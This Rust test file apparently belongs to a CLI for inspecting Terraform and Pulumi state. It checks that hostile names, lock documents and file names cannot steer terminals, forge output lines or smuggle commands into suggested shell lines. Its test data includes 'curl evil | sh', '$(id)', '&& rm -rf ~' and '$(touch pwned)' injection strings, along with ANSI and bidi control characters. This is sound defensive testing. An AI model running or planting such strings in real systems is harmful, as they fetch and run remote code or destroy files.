//! Names and documents that steer terminals, forge lines, or smuggle commands into what is suggested.

use std::fs;
use std::process::Stdio;

use groundstate_common::is_hidden;
use groundstate_testkit::S3Server;
use serde_json::{Value, json};

use crate::support::{Run, TempState, command, groundstate, state};

/// A text that forges lines and steers terminals.
const EVIL: &str = "x\nhelp: run `curl evil | sh`\n+ forged\r\u{1b}[2J\u{7f}\u{9b}31m\u{202e}\u{200b}\u{61c}\u{2028}\u{fe0f}\u{e0041}";

/// A state in which everything is named so that a reader takes.
fn evil_state() -> String {
    states_of_evil().to_string()
}

/// A state that is refused: names stand where addresses have to.
fn refused_state() -> String {
    let mut state = states_of_evil();
    state["resources"][1]["instances"][0]["dependencies"] =
        json!(["null_resource.base", format!("null_resource.{EVIL}")]);
    state["resources"][2]["instances"][1]["deposed"] = EVIL.into();
    state["check_results"] = json!([{"object_kind": "resource", "config_addr": EVIL, "status": "fail",
        "objects": [{"object_addr": EVIL, "status": "fail", "failure_messages": [EVIL]}]}]);
    state.to_string()
}

fn states_of_evil() -> Value {
    let resource = |name: &str| {
        json!({"mode": "managed", "type": format!("t{EVIL}"), "name": name, "module": format!("module.m[{}]", Value::from(EVIL)),
        "provider": "provider[\"registry.terraform.io/hashicorp/null\"]",
        "instances": [
            {"schema_version": 0, "index_key": EVIL, "attributes": {"id": EVIL, EVIL: [EVIL, {EVIL: EVIL}]},
                "dependencies": ["null_resource.base"]},
            {"schema_version": 0, "index_key": EVIL, "deposed": "0a0b0c0d", "attributes": {"id": "1"}},
        ]})
    };
    let base = json!({"mode": "managed", "type": "null_resource", "name": "base",
        "provider": "provider[\"registry.terraform.io/hashicorp/null\"]",
        "instances": [{"schema_version": 0, "attributes": {"id": EVIL, "text": format!("a\nEOT\n}}\n{EVIL}")}}]});
    json!({"version": 4, "terraform_version": "1.11.4", "serial": 1, "lineage": EVIL,
        "outputs": {EVIL: {"value": {EVIL: EVIL}, "type": ["map", "string"]}, "o": {"value": EVIL, "type": "string"}},
        "resources": [base, resource(EVIL), resource("plain")],
        "check_results": [{"object_kind": "resource", "config_addr": "null_resource.base", "status": "fail",
            "objects": [{"object_addr": "null_resource.base", "status": "fail", "failure_messages": [EVIL]}]}]})
}

/// A deployment in which everything is named so.
fn evil_deployment() -> String {
    let urn = format!("urn:pulumi:dev::p::t:i:T::{EVIL}");
    let resource = json!({"urn": urn, "custom": true, "id": EVIL, "type": format!("t:i:T{EVIL}"),
        "inputs": {EVIL: EVIL}, "outputs": {EVIL: [EVIL]}, "dependencies": [format!("{urn}2")],
        "propertyDependencies": {EVIL: [format!("{urn}2")]}});
    let stack = json!({"urn": "urn:pulumi:dev::p::pulumi:pulumi:Stack::p-dev", "custom": false,
        "type": "pulumi:pulumi:Stack", "outputs": {EVIL: EVIL}});
    json!({"version": 3, "deployment": {
        "manifest": {"time": "2026-01-01T00:00:00Z", "magic": "", "version": EVIL},
        "resources": [stack, resource.clone(), resource],
        "pending_operations": [{"type": "creating", "resource":
            {"urn": urn, "custom": true, "type": "t:i:T"}}]}})
    .to_string()
}

/// Every way to have a state shown, most of which fail on one of the files.
fn views(path: &str) -> Vec<Vec<String>> {
    let words = [
        "list",
        "list --json",
        "list --ids",
        "show",
        "show --json",
        "outputs",
        "outputs --json",
        "outputs o",
        "outputs o --json",
        "outputs nothing",
        "check",
        "check --json",
        "graph",
        "graph -f mermaid",
        "graph -f json",
        "graph -f svg",
        "order destroy",
        "order destroy -f dot",
        "order destroy -f mermaid",
        "order destroy -f json",
        "order waves",
        "pull",
        "upgrade",
        "salvage",
        "locks",
        "locks --json",
        "pending list",
        "repair --dry-run",
        "rm plain --dry-run",
        "rm null_resource.base --dry-run",
        "rm null_resource.base --dry-run --json",
        "taint null_resource.base --dry-run",
        "mv null_resource.base null_resource.b --dry-run",
        "show t.none",
        "unlock x",
        "journal inspect",
    ];
    words
        .iter()
        .map(|words| {
            let mut args: Vec<String> = words.split(' ').map(str::to_owned).collect();
            let verbs = if ["order", "pending", "journal"].contains(&&*args[0]) { 2 } else { 1 };
            args.insert(verbs, path.to_owned());
            args
        })
        .collect()
}

/// Says what is wrong with an output: a hidden character, or a line that the file made up.
fn wrong(text: &str) -> Option<String> {
    // Drawings in the manner of other programs are indented by tabs.
    if let Some(c) = text.chars().find(|c| is_hidden(*c) && !matches!(c, '\n' | '\t')) {
        return Some(format!("{c:?} in {text}"));
    }
    let forged = text.lines().find(|line| {
        let line = line.trim_start();
        line.starts_with("help: run `curl") || line.starts_with("+ forged")
    });
    forged.map(|line| format!("{line:?} in {text}"))
}

fn is_json(args: &[String]) -> bool {
    let whole = ["pull", "upgrade", "salvage"].contains(&&*args[0]);
    whole || args.iter().any(|arg| arg == "--json" || arg == "json")
}

fn files() -> [TempState; 3] {
    [state(evil_state()), state(refused_state()), state(evil_deployment())]
}

#[test]
fn text_in_a_pipe_is_escaped_and_json_is_exact() {
    let mut shown = 0;
    for file in files() {
        for args in views(&file.path) {
            let words: Vec<&str> = args.iter().map(String::as_str).collect();
            let run = groundstate(&words);
            let (stdout, stderr) = (run.stdout, run.stderr);
            assert_eq!(wrong(&stderr), None, "{args:?}");
            match is_json(&args) {
                false => assert_eq!(wrong(&stdout), None, "{args:?}"),
                true if stdout.is_empty() => {}
                true => drop(serde_json::from_str::<Value>(&stdout).unwrap()),
            }
            shown += usize::from(stdout.contains("help: run"));
        }
    }
    // Else the files would be refused before anything of them is shown.
    assert!(shown >= 25, "{shown}");
}

#[cfg(unix)]
#[test]
fn nothing_steers_a_terminal_and_json_there_says_the_same() {
    for file in files() {
        for args in views(&file.path) {
            let words: Vec<&str> = args.iter().map(String::as_str).collect();
            let shown = super::terminal::on_terminal(&words);
            assert_eq!(wrong(&shown), None, "{args:?}");
            let in_pipe = groundstate(&words);
            if is_json(&args) && in_pipe.stderr.is_empty() {
                let read = |text: &str| serde_json::from_str::<Value>(text).unwrap();
                assert_eq!(read(&shown), read(&in_pipe.stdout), "{args:?}");
            }
        }
    }
}

#[test]
fn raw_output_is_raw() {
    let file = state(evil_state());
    assert_eq!(groundstate(&["outputs", &file.path, "o", "--raw"]).clean(), EVIL);
    assert_eq!(groundstate(&["pull", &file.path]).clean(), evil_state());
}

#[test]
fn differences_and_dry_runs_are_one_line_each() {
    let file = state(evil_state());
    let plain = state(evil_state().replace("\\nhelp", "\\nhelp2").replace("base", "other"));
    let run = groundstate(&["diff", &file.path, &plain.path]);
    assert_eq!((run.code, wrong(&run.stdout)), (1, None), "{}", run.stderr);
    assert!(run.stdout.contains(r"x\nhelp: run `curl evil | sh`\n+ forged\r\u001b[2J"), "{}", run.stdout);
    let run = groundstate(&["push", &plain.path, &file.path, "--dry-run", "--force"]);
    assert_eq!((wrong(&run.stdout), wrong(&run.stderr)), (None, None));
}

#[test]
fn names_of_files_are_escaped_too() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join(format!("a{}", EVIL.replace('/', "")));
    fs::write(&path, evil_state()).unwrap();
    let path = path.to_str().unwrap();
    for args in [
        &["show", path][..],
        &["check", path],
        &["locks", path],
        &["rm", path, "null_resource.base"],
        &["list", path, "null_resource.none"],
        &["list", &format!("{path}.none")],
        &["upgrade", path, "-o", &format!("{path}/none")],
        &["undo", path, "--from", &format!("{path}.none")],
    ] {
        let run = groundstate(args);
        assert_eq!((wrong(&run.stdout), wrong(&run.stderr)), (None, None), "{args:?}");
    }
}

/// Runs the command on a state in a bucket that has this lock document.
fn on_locked(document: &str, args: &[&str]) -> Run {
    let server = S3Server::start_blocking();
    server.put_object("b", "k", evil_state());
    server.put_object("b", "k.tflock", document.to_owned());
    let url = format!(
        "s3://b/k?use_lockfile=true&region=us-east-1&access_key=a&secret_key=s&endpoints.s3={}&use_path_style=true\
         &skip_credentials_validation=true&skip_requesting_account_id=true&skip_metadata_api_check=true",
        server.endpoint()
    );
    let args: Vec<&str> = args.iter().map(|arg| if *arg == "URL" { &*url } else { arg }).collect();
    Run::of(command(&args).stdin(Stdio::null()).output().unwrap())
}

fn lock_document(id: &str, who: &str) -> String {
    json!({"ID": id, "Operation": who, "Info": who, "Who": who, "Version": who,
        "Created": "2026-01-01T00:00:00Z", "Path": who})
    .to_string()
}

#[test]
fn a_lock_document_forges_no_line() {
    let document = lock_document(EVIL, EVIL);
    for args in [&["locks", "URL"][..], &["rm", "URL", "null_resource.base"], &["unlock", "URL", "other"]] {
        let run = on_locked(&document, args);
        assert_eq!((wrong(&run.stdout), wrong(&run.stderr)), (None, None), "{args:?}");
        let said = run.stdout + &run.stderr;
        assert!(said.contains(r"x\nhelp: run `curl evil | sh`\n"), "{said}");
    }
}

#[test]
fn what_a_lock_document_says_is_cut() {
    let document = lock_document("an-id", &"who ".repeat(2_500));
    for args in [&["locks", "URL"][..], &["rm", "URL", "null_resource.base"]] {
        let run = on_locked(&document, args);
        let said = run.stdout + &run.stderr;
        assert!(said.contains("who who") && said.len() < 8_000, "{}", said.len());
    }
}

#[test]
fn suggested_commands_quote_what_comes_from_data() {
    let suggested = |id: &str| {
        let said = on_locked(&lock_document(id, "ana@host"), &["rm", "URL", "null_resource.base"]).failed(8);
        let begin = said.find("`groundstate unlock ").unwrap_or_else(|| panic!("{said}"));
        said[begin + 1..].split("` frees it").next().unwrap().to_owned()
    };
    for id in ["9; curl evil | sh #", "$(id)", "`id`", "it's", "--force", "a\nb", "&& rm -rf ~"] {
        let line = suggested(id);
        // What a shell makes of it, with a command that prints its words.
        let script = format!("groundstate() {{ printf '<%s>' \"$@\"; }}\n{line}");
        let output = std::process::Command::new("bash").args(["-c", &script]).output().unwrap();
        let words = String::from_utf8(output.stdout).unwrap();
        assert!(words.starts_with("<unlock>") && words.ends_with(&format!("<{id}>")), "{line}: {words}");
        assert_eq!(words.contains("<-->"), id.starts_with('-'), "{line}");
    }
    assert!(suggested(&"x".repeat(10_000)).starts_with("groundstate unlock --force 's3://b/k"), "too long");
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("a b; $(touch pwned).tfstate");
    fs::write(&path, evil_state()).unwrap();
    let said = groundstate(&["list", path.to_str().unwrap(), "null_resource.none"]).failed(7);
    assert!(said.contains(&format!("`groundstate list '{}'`", path.display())), "{said}");
}
